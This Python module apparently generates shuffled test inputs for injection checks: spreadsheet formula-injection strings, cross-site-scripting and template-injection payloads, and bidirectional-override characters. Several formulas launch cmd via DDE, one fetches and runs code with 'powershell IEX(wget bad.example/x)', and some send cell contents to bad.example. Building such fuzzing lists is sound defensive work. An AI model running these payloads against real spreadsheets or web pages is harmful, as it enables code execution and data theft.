"""Texts that somebody may put into a name, a reason or a file to make a program do something.

Both lists are made from tables of parts, shuffled with a seed that is printed.
"""

import itertools
import random
from typing import Final

LEADS: Final = (
    *("=", "+", "-", "@", "=+", "=-", "@=", "+=", "-@", "=@", "==", "--"),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b"),
)
BEFORE: Final = (
    *("", " ", "  ", "\u00a0", "\u200b", "\ufeff", "'", '"', "''", "\"'", "x", "1 ", "\u3000"),
    *(
        ";",
        "x;",
        "x; ",
        'x";',
        "x;'",
        "|",
        "x|",
        ",",
        "x,",
        'x",',
        "x\n",
        "x\r\n",
        "x\r",
        "x\t",
        "\n",
    ),
)
FORMULAS: Final = (
    "1+1",
    "SUM(1;1)",
    "SUM(1,1)*cmd|' /C calc'!A0",
    "cmd|'/C calc'!A0",
    "cmd|' /C powershell IEX(wget bad.example/x)'!A1",
    'DDE("cmd","/C calc","__DdeLink_0_0")',
    'HYPERLINK("http://bad.example/?q="&A1,"see")',
    'WEBSERVICE("http://bad.example/"&A2)',
    'IMPORTXML(CONCAT("http://bad.example/",A1),"//a")',
    "1+1;2",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
)
_SCRIPTS: Final = (
    "<script>ran=1;alert(1)</script>",
    "<img src=x onerror=ran=1>",
    "<svg/onload=ran=1>",
    "<svg><script>ran=1</script></svg>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<a href=javascript:ran=1>see</a>",
    "<details open ontoggle=ran=1>",
    "<body onload=ran=1>",
    "<input autofocus onfocus=ran=1>",
    "<math><mi xlink:href=javascript:ran=1>x",
    "<style>@import'javascript:ran=1'</style>",
    "<meta http-equiv=refresh content=0;url=javascript:ran=1>",
    "{{ 'zq' * 5 }}",
    "{% print('zq' * 5) %}",
    "${'zq'.repeat(5)}",
    "%(ran)s",
    "&lt;script&gt;ran=1&lt;/script&gt;",
    "&#60;script&#62;ran=1&#60;/script&#62;",
    "\u003cscript\u003eran=1\u003c/script\u003e",
)
_AROUND: Final = (
    ("", ""),
    ('"', '"'),
    ("'", "'"),
    ('">', ""),
    ("'>", ""),
    ("-->", "<!--"),
    ("</title>", ""),
    ("</textarea>", ""),
    ("</select>", ""),
    ("</script>", ""),
    ("]]>", ""),
)
TURNING: Final = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def formulas(seed: int) -> list[str]:
    """Return texts that some spreadsheet program may read as a formula, in a shuffled order."""
    parts = itertools.product(BEFORE, LEADS, FORMULAS)
    made = list(dict.fromkeys(before + lead + rest for before, lead, rest in parts))
    random.Random(seed).shuffle(made)  # noqa: S311 - an order, no secret
    return made


def scripts(seed: int) -> list[str]:
    """Return texts that a page may run, or that turn it round, in a shuffled order."""
    made = [start + text + end for (start, end), text in itertools.product(_AROUND, _SCRIPTS)]
    made += [
        f"{one}{text}" for one, text in itertools.product(TURNING, ("txet", "abc\u05d0", "1 2"))
    ]
    random.Random(seed).shuffle(made)  # noqa: S311 - an order, no secret
    return made
